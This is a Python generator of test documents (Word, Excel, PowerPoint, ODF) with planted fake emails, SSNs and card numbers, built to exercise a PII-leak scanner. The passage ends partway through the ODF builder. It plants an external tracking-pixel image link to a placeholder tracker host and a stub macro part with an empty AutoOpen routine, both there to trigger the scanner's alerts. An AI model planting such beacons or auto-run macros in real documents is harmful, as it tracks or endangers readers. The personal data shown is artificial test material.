#!/usr/bin/env python3
"""Generate office documents with planted fake PII for leaksift's document
handlers (OOXML, ODF, HTML, XML/SVG, text encodings, RTF).

The OOXML and ODF packages are written part by part with zipfile, laid out
the way Word/Excel/PowerPoint and LibreOffice write them (part names,
namespaces, relationship types, content types, a stored `mimetype` first in
ODF). Every planted value is distinct per location (body, table, header,
footer, footnote, comment, tracked change, metadata, embedded child), so an
end-to-end test can tell which location was read. Decoys (Luhn-failing
card numbers) must never be reported.

    python3 gen_docs.py OUTDIR            # documents + expect.json
    python3 gen_docs.py --corpus FUZZDIR  # small seed corpora per handler
    python3 gen_docs.py --golden GOLDDIR  # inputs of the golden text tests

generate(outdir) returns the expectations (also written to expect.json):
{file: {"handler": ..., "entities": {entity: [values]}, "absent": {...},
        "children": {member: {...same keys...}}, "alerts": [...],
        "partial": bool}}
"""
import io
import json
import os
import random
import struct
import sys
import zipfile
import zlib

RNG = random.Random(4242)


def luhn_ok(digits):
    total = 0
    for i, ch in enumerate(reversed(digits)):
        d = int(ch)
        if i % 2 == 1:
            d *= 2
            if d > 9:
                d -= 9
        total += d
    return total % 10 == 0


def make_card(prefix="4", length=16):
    """A random Luhn-valid card number (not a published test number)."""
    while True:
        body = prefix + "".join(str(RNG.randrange(10)) for _ in range(length - len(prefix) - 1))
        for last in "0123456789":
            if luhn_ok(body + last):
                card = body + last
                if card not in ("4111111111111111", "4012888888881881", "4242424242424242"):
                    return card


def decoy_of(card):
    """Same number with the check digit off by one: fails Luhn."""
    bad = card[:-1] + str((int(card[-1]) + 1) % 10)
    assert not luhn_ok(bad)
    return bad


def grouped(card, sep=" "):
    return sep.join(card[i:i + 4] for i in range(0, len(card), 4))


CARD = make_card("4")
CARD2 = make_card("5", 16)
DECOY = decoy_of(CARD)
SSN = "536-22-1874"
SSN_NUM = "536221874"
SSN_NUM_E = "536221875"   # stored as 5.36221875E8 in a sheet
MARK = "CONFIDENTIAL"


def png_1x1():
    def chunk(kind, data):
        c = struct.pack(">I", len(data)) + kind + data
        return c + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

NS_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
NS_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS_A = "http://schemas.openxmlformats.org/drawingml/2006/main"
NS_WP = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
NS_PIC = "http://schemas.openxmlformats.org/drawingml/2006/picture"
NS_P = "http://schemas.openxmlformats.org/presentationml/2006/main"
NS_X = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
NS_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
NS_CT = "http://schemas.openxmlformats.org/package/2006/content-types"


def write_zip(path, parts, stored_first=None):
    """parts: list of (name, bytes|str). Deflated, in the given order."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts:
            if isinstance(data, str):
                data = data.encode("utf-8")
            ctype = zipfile.ZIP_STORED if name == stored_first else zipfile.ZIP_DEFLATED
            info = zipfile.ZipInfo(name, date_time=(2024, 5, 17, 9, 30, 0))
            info.compress_type = ctype
            z.writestr(info, data)


def zip_bytes(parts):
    buf = io.BytesIO()
    write_zip(buf, parts)
    return buf.getvalue()


def rels(items):
    out = [XML_DECL, '<Relationships xmlns="%s">' % NS_PKG_REL]
    for rid, rtype, target, external in items:
        mode = ' TargetMode="External"' if external else ""
        out.append('<Relationship Id="%s" Type="%s%s" Target="%s"%s/>' % (rid, REL, rtype, target, mode))
    out.append("</Relationships>")
    return "".join(out)


def content_types(defaults, overrides):
    out = [XML_DECL, '<Types xmlns="%s">' % NS_CT]
    for ext, ct in defaults:
        out.append('<Default Extension="%s" ContentType="%s"/>' % (ext, ct))
    for part, ct in overrides:
        out.append('<Override PartName="%s" ContentType="%s"/>' % (part, ct))
    out.append("</Types>")
    return "".join(out)


def core_props(creator, modifier, title="Quarterly report"):
    return (XML_DECL +
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
            'xmlns:dcmitype="http://purl.org/dc/dcmitype/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
            '<dc:title>%s</dc:title><dc:creator>%s</dc:creator><cp:lastModifiedBy>%s</cp:lastModifiedBy>'
            '<cp:revision>3</cp:revision>'
            '<dcterms:created xsi:type="dcterms:W3CDTF">2024-05-17T09:30:00Z</dcterms:created>'
            '<dcterms:modified xsi:type="dcterms:W3CDTF">2024-05-17T10:02:00Z</dcterms:modified>'
            '</cp:coreProperties>' % (title, creator, modifier))


def app_props(app, company, manager):
    return (XML_DECL +
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties" '
            'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
            '<Template>Normal.dotm</Template><TotalTime>12</TotalTime><Application>%s</Application>'
            '<DocSecurity>0</DocSecurity><Manager>%s</Manager><Company>%s</Company>'
            '<AppVersion>16.0000</AppVersion></Properties>' % (app, manager, company))


def custom_props(name, value):
    return (XML_DECL +
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
            'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
            '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="%s">'
            '<vt:lpwstr>%s</vt:lpwstr></property></Properties>' % (name, value))


def w_p(*runs):
    return "<w:p>%s</w:p>" % "".join(runs)


def w_r(text, bold=False):
    rpr = "<w:rPr><w:b/></w:rPr>" if bold else ""
    return '<w:r>%s<w:t xml:space="preserve">%s</w:t></w:r>' % (rpr, text)


def w_tbl(rows):
    out = ['<w:tbl><w:tblPr><w:tblStyle w:val="TableGrid"/><w:tblW w:w="0" w:type="auto"/></w:tblPr>']
    for row in rows:
        out.append("<w:tr>")
        for cell in row:
            out.append('<w:tc><w:tcPr><w:tcW w:w="4675" w:type="dxa"/></w:tcPr>%s</w:tc>' % w_p(w_r(cell)))
        out.append("</w:tr>")
    out.append("</w:tbl>")
    return "".join(out)


W_NS_DECL = ('xmlns:w="%s" xmlns:r="%s" xmlns:wp="%s" xmlns:a="%s" xmlns:pic="%s"'
             % (NS_W, NS_R, NS_WP, NS_A, NS_PIC))

DOCX_CT_DEFAULTS = [
    ("rels", "application/vnd.openxmlformats-package.relationships+xml"),
    ("xml", "application/xml"),
    ("png", "image/png"),
    ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("bin", "application/vnd.ms-office.vbaProject"),
]
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml."


def docx_body(p, doctype="", entity_refs=""):
    """word/document.xml with body text, a table, tracked changes, a comment
    anchor, a footnote reference and a picture with alt text."""
    body = [
        w_p('<w:pPr><w:pStyle w:val="Title"/></w:pPr>', w_r("Employee record")),
        # the address is split over three runs, as Word does after an edit
        w_p(w_r("Contact: "), w_r("body.person", bold=True), w_r("@example"), w_r(".com")),
        # SSN typed with non-breaking hyphens
        w_p(w_r("SSN "), w_r("536"), "<w:r><w:noBreakHyphen/><w:t>22</w:t></w:r>", w_r("-1874")),
        entity_refs,
        w_tbl([["Card", grouped(CARD)], ["Email", "table.person@example.com"],
               ["Reference", grouped(DECOY)]]),
        w_p('<w:ins w:id="11" w:author="Reviewer" w:date="2024-05-17T10:00:00Z">',
            w_r("inserted.text@example.com"), "</w:ins>",
            '<w:del w:id="12" w:author="Reviewer" w:date="2024-05-17T10:00:00Z">'
            '<w:r><w:delText>deleted.text@example.com</w:delText></w:r></w:del>'),
        w_p('<w:commentRangeStart w:id="0"/>', w_r("Commented passage"), '<w:commentRangeEnd w:id="0"/>',
            '<w:r><w:rPr><w:rStyle w:val="CommentReference"/></w:rPr><w:commentReference w:id="0"/></w:r>'),
        w_p(w_r("Footnoted claim"),
            '<w:r><w:rPr><w:rStyle w:val="FootnoteReference"/></w:rPr><w:footnoteReference w:id="1"/></w:r>'),
        w_p('<w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0">'
            '<wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="Picture 1" descr="alt.text@example.com"/>'
            '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
            '<pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="image1.png"/><pic:cNvPicPr/></pic:nvPicPr>'
            '<pic:blipFill><a:blip r:embed="rId8"/></pic:blipFill><pic:spPr/></pic:pic>'
            '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'),
        w_p(w_r("Marking: %s" % p.get("body_mark", "internal draft"))),
    ]
    sect = ('<w:sectPr><w:headerReference w:type="default" r:id="rId6"/>'
            '<w:footerReference w:type="default" r:id="rId7"/>'
            '<w:pgSz w:w="12240" w:h="15840"/></w:sectPr>')
    return (XML_DECL + doctype + '<w:document %s><w:body>%s%s</w:body></w:document>'
            % (W_NS_DECL, "".join(body), sect))


def docx_parts(p, doctype="", entity_refs="", extra=None, embed=True, vba=False,
               settings_rels=None, document_xml=None):
    hdr = '<w:hdr %s>%s</w:hdr>' % (W_NS_DECL, w_p(w_r(MARK + " - header.person@example.com")))
    ftr = '<w:ftr %s>%s</w:ftr>' % (W_NS_DECL, w_p(w_r("footer.person@example.com")))
    fns = ('<w:footnotes %s><w:footnote w:type="separator" w:id="-1">%s</w:footnote>'
           '<w:footnote w:type="continuationSeparator" w:id="0">%s</w:footnote>'
           '<w:footnote w:id="1">%s</w:footnote></w:footnotes>'
           % (W_NS_DECL, w_p("<w:r><w:separator/></w:r>"), w_p("<w:r><w:continuationSeparator/></w:r>"),
              w_p('<w:r><w:footnoteRef/></w:r>', w_r(" Source: foot.note@example.com"))))
    cmts = ('<w:comments %s><w:comment w:id="0" w:author="Jane Reviewer" w:date="2024-05-17T10:01:00Z" '
            'w:initials="JR">%s</w:comment></w:comments>'
            % (W_NS_DECL, w_p(w_r("Please check comment.person@example.com"))))
    styles = ('<w:styles %s><w:style w:type="paragraph" w:styleId="Title"><w:name w:val="Title"/>'
              '</w:style></w:styles>' % W_NS_DECL)
    settings = '<w:settings %s><w:zoom w:percent="100"/>%s</w:settings>' % (
        W_NS_DECL, '<w:attachedTemplate r:id="rId1"/>' if settings_rels else "")
    doc_rels = [
        ("rId1", "styles", "styles.xml", False),
        ("rId2", "settings", "settings.xml", False),
        ("rId3", "footnotes", "footnotes.xml", False),
        ("rId4", "comments", "comments.xml", False),
        ("rId6", "header", "header1.xml", False),
        ("rId7", "footer", "footer1.xml", False),
        ("rId8", "image", "media/image1.png", False),
        ("rId9", "hyperlink", "mailto:link.person@example.com", True),
    ]
    overrides = [("/word/document.xml", WML + ("document.macroEnabled.main+xml" if vba else "document.main+xml")),
                 ("/word/styles.xml", WML + "styles+xml"),
                 ("/word/settings.xml", WML + "settings+xml"),
                 ("/word/footnotes.xml", WML + "footnotes+xml"),
                 ("/word/comments.xml", WML + "comments+xml"),
                 ("/word/header1.xml", WML + "header+xml"),
                 ("/word/footer1.xml", WML + "footer+xml"),
                 ("/docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml"),
                 ("/docProps/app.xml", "application/vnd.openxmlformats-officedocument.extended-properties+xml"),
                 ("/docProps/custom.xml", "application/vnd.openxmlformats-officedocument.custom-properties+xml")]
    parts = [
        ("[Content_Types].xml", content_types(DOCX_CT_DEFAULTS, overrides)),
        ("_rels/.rels", rels([("rId1", "officeDocument", "word/document.xml", False),
                              ("rId2", "metadata/core-properties", "docProps/core.xml", False),
                              ("rId3", "extended-properties", "docProps/app.xml", False),
                              ("rId4", "custom-properties", "docProps/custom.xml", False)])),
        ("word/document.xml", document_xml or docx_body(p, doctype, entity_refs)),
        ("word/_rels/document.xml.rels", rels(doc_rels + ([("rId10", "package", "embeddings/Microsoft_Excel_Worksheet.xlsx", False)] if embed else [])
                                              + ([("rId11", "vbaProject", "vbaProject.bin", False)] if vba else []))),
        ("word/styles.xml", styles),
        ("word/settings.xml", settings),
        ("word/footnotes.xml", fns),
        ("word/comments.xml", cmts),
        ("word/header1.xml", hdr),
        ("word/footer1.xml", ftr),
        ("word/media/image1.png", png_1x1()),
    ]
    if settings_rels:
        parts.append(("word/_rels/settings.xml.rels", rels(settings_rels)))
    if embed:
        parts.append(("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx_embedded()))
    if vba:
        parts.append(("word/vbaProject.bin", fake_vba()))
    parts += [
        ("docProps/core.xml", core_props("Jane Doe", "modifier.person@example.com")),
        ("docProps/app.xml", app_props("Microsoft Office Word", "Acme Widgets Ltd", "manager.person@example.com")),
        ("docProps/custom.xml", custom_props("Client Contact", "custom.prop@example.com")),
    ]
    return parts + (extra or [])


def fake_vba():
    """Not a real VBA project: an OLE2 signature and some module-like text.
    Enough for the `macro` alert, which keys on the part name."""
    return (bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" +
            b"\x00" * 480 + b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nEnd Sub\r\n")


DOCX_EMAILS = ["body.person@example.com", "table.person@example.com", "header.person@example.com",
               "footer.person@example.com", "foot.note@example.com", "comment.person@example.com",
               "inserted.text@example.com", "deleted.text@example.com", "alt.text@example.com",
               "modifier.person@example.com", "manager.person@example.com", "custom.prop@example.com",
               "link.person@example.com"]


# ---------------------------------------------------------------- xlsx

SML = "application/vnd.openxmlformats-officedocument.spreadsheetml."


def x_cell(ref, value, kind):
    if kind == "s":
        return '<c r="%s" t="s"><v>%d</v></c>' % (ref, value)
    if kind == "inline":
        return '<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (ref, value)
    if kind == "b":
        return '<c r="%s" t="b"><v>%s</v></c>' % (ref, value)
    if kind == "f":
        return '<c r="%s"><f>SUM(B2:B3)</f><v>%s</v></c>' % (ref, value)
    return '<c r="%s"><v>%s</v></c>' % (ref, value)


def x_sheet(rows, header_footer=""):
    out = [XML_DECL, '<worksheet xmlns="%s" xmlns:r="%s"><dimension ref="A1:C9"/><sheetViews>'
           '<sheetView workbookViewId="0"/></sheetViews><sheetFormatPr defaultRowHeight="15"/><sheetData>'
           % (NS_X, NS_R)]
    for i, row in enumerate(rows, 1):
        out.append('<row r="%d" spans="1:3">' % i)
        for j, (value, kind) in enumerate(row):
            out.append(x_cell("%s%d" % ("ABC"[j], i), value, kind))
        out.append("</row>")
    out.append("</sheetData>")
    out.append('<pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/>')
    out.append(header_footer)
    out.append("</worksheet>")
    return "".join(out)


def x_sst(strings):
    items = "".join("<si><t>%s</t></si>" % s for s in strings)
    # one rich-text item with a phonetic run that must not be read as text
    items += ('<si><r><rPr><b/></rPr><t>rich.</t></r><r><t>text@example.com</t></r>'
              '<rPh sb="0" eb="1"><t>PHONETIC</t></rPh></si>')
    n = len(strings) + 1
    return XML_DECL + '<sst xmlns="%s" count="%d" uniqueCount="%d">%s</sst>' % (NS_X, n, n, items)


def xlsx_parts(sheets, sst, comments=None, vba=False, props=None, extra=None):
    """sheets: list of (name, sheet_xml)."""
    ct = [("rels", "application/vnd.openxmlformats-package.relationships+xml"),
          ("xml", "application/xml"), ("bin", "application/vnd.ms-office.vbaProject")]
    overrides = [("/xl/workbook.xml", SML + ("sheet.macroEnabled.main+xml" if vba else "sheet.main+xml")),
                 ("/xl/sharedStrings.xml", SML + "sharedStrings+xml"),
                 ("/xl/styles.xml", SML + "styles+xml")]
    wb_rels = []
    sheet_entries = []
    for i, (name, _) in enumerate(sheets, 1):
        overrides.append(("/xl/worksheets/sheet%d.xml" % i, SML + "worksheet+xml"))
        wb_rels.append(("rId%d" % i, "worksheet", "worksheets/sheet%d.xml" % i, False))
        sheet_entries.append('<sheet name="%s" sheetId="%d" r:id="rId%d"/>' % (name, i, i))
    n = len(sheets)
    wb_rels += [("rId%d" % (n + 1), "styles", "styles.xml", False),
                ("rId%d" % (n + 2), "sharedStrings", "sharedStrings.xml", False)]
    if vba:
        wb_rels.append(("rId%d" % (n + 3), "vbaProject", "vbaProject.bin", False))
    workbook = (XML_DECL + '<workbook xmlns="%s" xmlns:r="%s"><workbookPr defaultThemeVersion="164011"/>'
                '<bookViews><workbookView xWindow="0" yWindow="0" windowWidth="28800" windowHeight="12300"/>'
                '</bookViews><sheets>%s</sheets><calcPr calcId="171027"/></workbook>'
                % (NS_X, NS_R, "".join(sheet_entries)))
    styles = XML_DECL + '<styleSheet xmlns="%s"><fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts></styleSheet>' % NS_X
    parts = [("[Content_Types].xml", content_types(ct, overrides)),
             ("_rels/.rels", rels([("rId1", "officeDocument", "xl/workbook.xml", False),
                                   ("rId2", "metadata/core-properties", "docProps/core.xml", False),
                                   ("rId3", "extended-properties", "docProps/app.xml", False)])),
             ("xl/workbook.xml", workbook),
             ("xl/_rels/workbook.xml.rels", rels(wb_rels))]
    for i, (_, xml) in enumerate(sheets, 1):
        parts.append(("xl/worksheets/sheet%d.xml" % i, xml))
    if comments:
        parts.append(("xl/worksheets/_rels/sheet1.xml.rels",
                      rels([("rId1", "comments", "../comments1.xml", False)])))
        parts.append(("xl/comments1.xml", comments))
    parts += [("xl/styles.xml", styles), ("xl/sharedStrings.xml", sst)]
    if vba:
        parts.append(("xl/vbaProject.bin", fake_vba()))
    creator, modifier, company, manager = props or ("Jane Doe", "Jane Doe", "Acme Widgets Ltd", "Finance")
    parts += [("docProps/core.xml", core_props(creator, modifier, "Payroll")),
              ("docProps/app.xml", app_props("Microsoft Excel", company, manager))]
    return parts + (extra or [])


def xlsx_embedded():
    """The small workbook embedded in the DOCX (a child object)."""
    sst = x_sst(["Email", "embedded.person@example.com", "SSN"])
    sheet = x_sheet([[(0, "s"), (1, "s")], [(2, "s"), (SSN_NUM, "n")]])
    return zip_bytes(xlsx_parts([("Embedded", sheet)], sst))


XLSX_STRINGS = ["Name", "SSN", "Email", "Card", "Jane Roe", "sst.person@example.com",
                grouped(CARD2, "-"), "orphan.string@example.com", "Reference", grouped(DECOY, "-")]


def xlsx_main(vba=False):
    sst = x_sst(XLSX_STRINGS)
    hf = ('<headerFooter><oddHeader>&amp;LAcme&amp;C%s&amp;RPage &amp;P</oddHeader>'
          '<oddFooter>&amp;"Arial,Bold"&amp;12hf.footer@example.com</oddFooter></headerFooter>' % MARK)
    sheet1 = x_sheet([
        [(0, "s"), (4, "s"), (2, "s")],
        [(1, "s"), (SSN_NUM, "n"), ("inline.person@example.com", "inline")],
        [(1, "s"), ("5.36221875E8", "n"), (1, "b")],
        [(2, "s"), (5, "s"), ("1234.5", "f")],
    ], hf)
    sheet2 = x_sheet([[(3, "s"), (6, "s")], [(8, "s"), (9, "s")]])
    comments = (XML_DECL + '<comments xmlns="%s"><authors><author>Jane Reviewer</author></authors>'
                '<commentList><comment ref="C2" authorId="0"><text><r><t>Verify comment.cell@example.com</t></r>'
                '</text></comment></commentList></comments>' % NS_X)
    return xlsx_parts([("Payroll", sheet1), ("Cards", sheet2)], sst, comments, vba=vba,
                      props=("Jane Doe", "xl.modifier@example.com", "Acme Widgets Ltd", "xl.manager@example.com"))


XLSX_EMAILS = ["sst.person@example.com", "inline.person@example.com", "orphan.string@example.com",
               "rich.text@example.com", "comment.cell@example.com", "hf.footer@example.com",
               "xl.modifier@example.com", "xl.manager@example.com"]


# ---------------------------------------------------------------- pptx

PML = "application/vnd.openxmlformats-officedocument.presentationml."


def p_sp(paragraphs, name="Content", descr=None):
    d = ' descr="%s"' % descr if descr else ""
    paras = "".join("<a:p><a:r><a:rPr lang=\"en-US\"/><a:t>%s</a:t></a:r></a:p>" % t for t in paragraphs)
    return ('<p:sp><p:nvSpPr><p:cNvPr id="2" name="%s"%s/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/>'
            '<p:txBody><a:bodyPr/><a:lstStyle/>%s</p:txBody></p:sp>' % (name, d, paras))


def p_table(rows):
    out = ['<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="Table 3"/><p:cNvGraphicFramePr/><p:nvPr/>'
           '</p:nvGraphicFramePr><p:xfrm/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/table">'
           '<a:tbl><a:tblGrid><a:gridCol w="1"/><a:gridCol w="1"/></a:tblGrid>']
    for row in rows:
        out.append('<a:tr h="1">')
        for cell in row:
            out.append('<a:tc><a:txBody><a:bodyPr/><a:p><a:r><a:t>%s</a:t></a:r></a:p></a:txBody></a:tc>' % cell)
        out.append("</a:tr>")
    out.append("</a:tbl></a:graphicData></a:graphic></p:graphicFrame>")
    return "".join(out)


def pptx_parts():
    ns = 'xmlns:a="%s" xmlns:r="%s" xmlns:p="%s"' % (NS_A, NS_R, NS_P)
    slide = (XML_DECL + '<p:sld %s><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/>'
             '</p:nvGrpSpPr><p:grpSpPr/>%s%s%s</p:spTree></p:cSld></p:sld>'
             % (ns, p_sp(["Quarterly review"], "Title 1"),
                p_sp(["Owner: slide.person@example.com", MARK + " - board only"], "Content 2", "shape.alt@example.com"),
                p_table([["SSN", SSN], ["Card", grouped(CARD)]])))
    notes = (XML_DECL + '<p:notes %s><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/>'
             '</p:nvGrpSpPr><p:grpSpPr/>%s</p:spTree></p:cSld></p:notes>'
             % (ns, p_sp(["Speaker notes: call notes.person@example.com"], "Notes Placeholder 2")))
    comments = (XML_DECL + '<p:cmLst %s><p:cm authorId="0" dt="2024-05-17T10:00:00.000" idx="1"><p:pos x="10" y="10"/>'
                '<p:text>Ask ppt.comment@example.com</p:text></p:cm></p:cmLst>' % ns)
    authors = (XML_DECL + '<p:cmAuthorLst %s><p:cmAuthor id="0" name="Jane Reviewer" initials="JR" lastIdx="1" clrIdx="0"/>'
               '</p:cmAuthorLst>' % ns)
    pres = (XML_DECL + '<p:presentation %s><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst>'
            '<p:sldSz cx="12192000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>' % ns)
    overrides = [("/ppt/presentation.xml", PML + "presentation.main+xml"),
                 ("/ppt/slides/slide1.xml", PML + "slide+xml"),
                 ("/ppt/notesSlides/notesSlide1.xml", PML + "notesSlide+xml"),
                 ("/ppt/comments/comment1.xml", PML + "comments+xml"),
                 ("/ppt/commentAuthors.xml", PML + "commentAuthors+xml")]
    ct = [("rels", "application/vnd.openxmlformats-package.relationships+xml"), ("xml", "application/xml"),
          ("png", "image/png")]
    return [
        ("[Content_Types].xml", content_types(ct, overrides)),
        ("_rels/.rels", rels([("rId1", "officeDocument", "ppt/presentation.xml", False),
                              ("rId2", "metadata/core-properties", "docProps/core.xml", False),
                              ("rId3", "extended-properties", "docProps/app.xml", False)])),
        ("ppt/presentation.xml", pres),
        ("ppt/_rels/presentation.xml.rels", rels([("rId2", "slide", "slides/slide1.xml", False),
                                                  ("rId3", "commentAuthors", "commentAuthors.xml", False)])),
        ("ppt/slides/slide1.xml", slide),
        ("ppt/slides/_rels/slide1.xml.rels",
         rels([("rId1", "notesSlide", "../notesSlides/notesSlide1.xml", False),
               ("rId2", "comments", "../comments/comment1.xml", False),
               ("rId3", "image", "http://tracker.example.net/pixel.png", True)])),
        ("ppt/notesSlides/notesSlide1.xml", notes),
        ("ppt/comments/comment1.xml", comments),
        ("ppt/commentAuthors.xml", authors),
        ("ppt/media/image1.png", png_1x1()),
        ("docProps/core.xml", core_props("ppt.creator@example.com", "Jane Doe", "Board deck")),
        ("docProps/app.xml", app_props("Microsoft Office PowerPoint", "Acme Widgets Ltd", "Board")),
    ]


PPTX_EMAILS = ["slide.person@example.com", "shape.alt@example.com", "notes.person@example.com",
               "ppt.comment@example.com", "ppt.creator@example.com"]


# ---------------------------------------------------------------- ODF

ODF_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
          'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" '
          'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dc="http://purl.org/dc/elements/1.1/" '
          'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
          'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
          'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
          'xmlns:office-version="1.3" office:version="1.3"')
ODF_MIME = "application/vnd.oasis.opendocument."


def odf_meta(creator, extra_name, extra_value):
    return (XML_DECL.replace(' standalone="yes"', "") +
            '<office:document-meta %s><office:meta><meta:generator>LibreOffice/7.4.7.2$Linux_X86_64</meta:generator>'
            '<meta:initial-creator>Jane Doe</meta:initial-creator><dc:creator>%s</dc:creator>'
            '<dc:date>2024-05-17T10:02:00</dc:date><meta:user-defined meta:name="%s">%s</meta:user-defined>'
            '</office:meta></office:document-meta>' % (ODF_NS, creator, extra_name, extra_value))


def odf_manifest(kind, entries):
    out = ['<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest '
           'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
           '<manifest:file-entry manifest:full-path="/" manifest:version="1.3" manifest:media-type="%s%s"/>'
           % (ODF_MIME, kind)]
    for path, mt in entries:
        out.append('<manifest:file-entry manifest:full-path="%s" manifest:media-type="%s"/>' % (path, mt))
    out.append("</manifest:manifest>")
    return "".join(out)


def odf_parts(kind, content, styles, meta, extra=()):
    names = [p for p, _ in extra]
    manifest = odf_manifest(kind, [("content.xml", "text/xml"), ("styles.xml", "text/xml"),
                                   ("meta.xml", "text/xml")] + [(n, "") for n in names])
    return ([("mimetype", ODF_MIME + kind), ("content.xml", content), ("styles.xml", styles),
             ("meta.xml", meta), ("settings.xml", '<?xml version="1.0" encoding="UTF-8"?>'
                                                  '<office:document-settings %s/>' % ODF_NS)]
            + list(extra) + [("META-INF/manifest.xml", manifest)])


def write_odf(path, parts):
    write_zip(path, parts, stored_first="mimetype")


def odf_bytes(parts):
    buf = io.BytesIO()
    write_odf(buf, parts)
    return buf.getvalue()


def odt_parts():
    content = ('<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content %s><office:body><office:text>'
               '<text:tracked-changes><text:changed-region text:id="ct1"><text:deletion><office:change-info>'
               '<dc:creator>Reviewer</dc:creator><dc:date>2024-05-17T10:00:00</dc:date></office:change-info>'
               '<text:p>odt.deleted@example.com</text:p></text:deletion></text:changed-region></text:tracked-changes>'
               '<text:h text:outline-level="1">Employee record</text:h>'
               '<text:p>Contact: <text:span text:style-name="T1">odt.body</text:span>@example.com</text:p>'
               '<text:p>SSN<text:s/>%s<text:tab/>end<text:line-break/>next</text:p>'
               '<table:table table:name="Table1"><table:table-column table:number-columns-repeated="2"/>'
               '<table:table-row><table:table-cell office:value-type="string"><text:p>Card</text:p></table:table-cell>'
               '<table:table-cell office:value-type="string"><text:p>%s</text:p></table:table-cell></table:table-row>'
               '<table:table-row><table:table-cell><text:p>Email</text:p></table:table-cell>'
               '<table:table-cell><text:p>odt.table@example.com</text:p></table:table-cell></table:table-row>'
               '<table:table-row><table:table-cell><text:p>Reference</text:p></table:table-cell>'
               '<table:table-cell><text:p>%s</text:p></table:table-cell></table:table-row></table:table>'
               '<text:p>Annotated<office:annotation><dc:creator>Jane Reviewer</dc:creator>'
               '<dc:date>2024-05-17T10:01:00</dc:date><text:p>odt.comment@example.com</text:p></office:annotation> passage'
               '<text:note text:id="ftn1" text:note-class="footnote"><text:note-citation>1</text:note-citation>'
               '<text:note-body><text:p>odt.footnote@example.com</text:p></text:note-body></text:note></text:p>'
               '<text:p><draw:frame draw:name="Object1"><draw:object xlink:href="./Object 1" xlink:type="simple"/>'
               '<svg:title>odt.alt@example.com</svg:title></draw:frame></text:p>'
               '</office:text></office:body></office:document-content>'
               % (ODF_NS, SSN, grouped(CARD), grouped(DECOY)))
    styles = ('<?xml version="1.0" encoding="UTF-8"?>\n<office:document-styles %s><office:styles>'
              '<style:style style:name="Standard" style:family="paragraph"/></office:styles>'
              '<office:master-styles><style:master-page style:name="Standard" style:page-layout-name="pm1">'
              '<style:header><text:p>%s odt.header@example.com</text:p></style:header>'
              '<style:footer><text:p>odt.footer@example.com</text:p></style:footer>'
              '</style:master-page></office:master-styles></office:document-styles>' % (ODF_NS, MARK))
    obj = ('<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content %s><office:body><office:text>'
           '<text:p>Embedded object: odt.object@example.com</text:p></office:text></office:body>'
           '</office:document-content>' % ODF_NS)
